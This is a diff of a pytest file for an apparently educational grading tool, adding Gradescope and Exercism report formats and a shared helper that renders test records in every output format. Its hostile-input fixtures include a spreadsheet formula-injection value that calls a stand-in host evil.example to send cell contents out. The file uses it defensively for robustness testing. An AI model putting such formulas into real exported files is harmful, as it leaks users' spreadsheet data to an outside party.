@@ -25,7 +25,17 @@ from grader.classroom.journal import Entry, Journal
 from grader.classroom.names import file_name
 from grader.classroom.results import Result
 from grader.record import Record
-from grader.reports import FACES, board, classroom, convert, feedback, html, table
+from grader.reports import (
+    FACES,
+    board,
+    classroom,
+    convert,
+    exercism,
+    feedback,
+    gradescope,
+    html,
+    table,
+)
 from tests.classes import EVIL, HOSTILE, graded
 
 SCHEMA = json.loads(
@@ -44,7 +54,6 @@ TEXTS = {
     "formula": '=HYPERLINK("http://evil.example?x="&A1)',
     "lines": "\n# heading\n| a | b |\n```\n~~~\n<b>\n\n" * 20,
     "a long word": "N" * 5_000,
-    "many words": "of words " * 500,
 }
 NUMBERS = {
     "zero": 0,
@@ -250,24 +259,42 @@ def check_class(results: list[Result], out: Path, title: str = "News") -> None:
 # --- records ---------------------------------------------------------------------------------
 
 
+def check_every_format(record: dict[str, Any], file: Path) -> None:
+    """Show a record from a file in every format."""
+    file.write_text(json.dumps(record), encoding="utf-8")
+    for face, suffix in SUFFIXES.items():
+        try:
+            KINDS[suffix](convert([file], face))
+        except Exception as error:
+            raise AssertionError(f"{file.stem} as {face}: {error!r}") from error
+
+
 @pytest.mark.parametrize("field", FIELDS, ids=str)
 def test_a_record_can_be_shown_whatever_a_field_holds(field: Field, tmp_path: Path) -> None:
     results = [Result("as it was", record=graded()["wrong"])]
     for kind, value in field.values().items():
-        data = with_value(BASE, field.path, value)
-        file = tmp_path / f"{kind}.json"
-        file.write_text(json.dumps(data), encoding="utf-8")
-        for face, suffix in SUFFIXES.items():
-            try:
-                KINDS[suffix](convert([file], face))
-            except Exception as error:
-                raise AssertionError(f"{field}, {kind}, as {face}: {error!r}") from error
-        record = Record.from_dict(data)
-        is_text(board.text(record))
-        if record.checks:
-            is_html(html.table(record))
+        record = Record.from_dict(with_value(BASE, field.path, value))
+        try:  # what a class does not write
+            is_text(board.text(record))
+            is_json(gradescope.text(record))
+            is_json(exercism.text(record))
+            if record.checks:
+                is_html(html.table(record))
+        except Exception as error:
+            raise AssertionError(f"{field}, {kind}: {error!r}") from error
         results.append(Result(kind, record=record))
-    check_class(results, tmp_path / "out")
+    check_class(results, tmp_path)
+
+
+@pytest.mark.parametrize("kind", NUMBERS)
+def test_a_record_can_be_shown_whatever_its_numbers_are(kind: str, tmp_path: Path) -> None:
+    data = BASE
+    for field in FIELDS:
+        if kind in field.values():
+            data = with_value(data, field.path, NUMBERS[kind])
+    record = Record.from_dict(data)
+    check_every_format(data, tmp_path / f"{kind}.json")
+    check_class([Result(f"{kind}{n}", record=record) for n in range(2)], tmp_path / "out")
 
 
 def test_every_format_is_among_those_that_are_proved() -> None:
@@ -278,11 +305,13 @@ def test_every_format_is_among_those_that_are_proved() -> None:
 def test_a_record_can_be_shown_if_all_its_texts_are_hostile(kind: str, tmp_path: Path) -> None:
     data = BASE
     for field in FIELDS:
-        if kind in field.values() and TEXTS[kind] == field.values()[kind]:
+        if kind in field.values() and not isinstance(field.values()[kind], list | dict):
             data = with_value(data, field.path, TEXTS[kind])
     record = Record.from_dict(data)
+    check_every_format(data, tmp_path / f"{kind}.json")
     results = [Result(f"{kind}{n}", record=record) for n in range(2)]
-    check_class([*results, Result("as it was", record=graded()["wrong"])], tmp_path, TEXTS[kind])
+    results.append(Result("as it was", record=graded()["wrong"]))
+    check_class(results, tmp_path / "out", TEXTS[kind])
 
 
 # --- results ---------------------------------------------------------------------------------
@@ -379,9 +408,7 @@ def test_a_class_has_its_reports_if_a_file_of_one_student_is_not_taken(
         assert line in (out / "feedback" / "alice.html").read_text(encoding="utf-8")
         assert line in (out / "index.html").read_text(encoding="utf-8")
         assert line not in (out / "feedback" / "carol.html").read_text(encoding="utf-8")
-    (tmp_path / "alice.json").write_text(alice.to_json(), encoding="utf-8")
-    for face, suffix in SUFFIXES.items():
-        KINDS[suffix](convert([tmp_path / "alice.json"], face))
+    check_every_format(alice.as_dict(), tmp_path / "alice.json")
 
 
 def test_a_student_reads_which_files_are_not_taken() -> None:
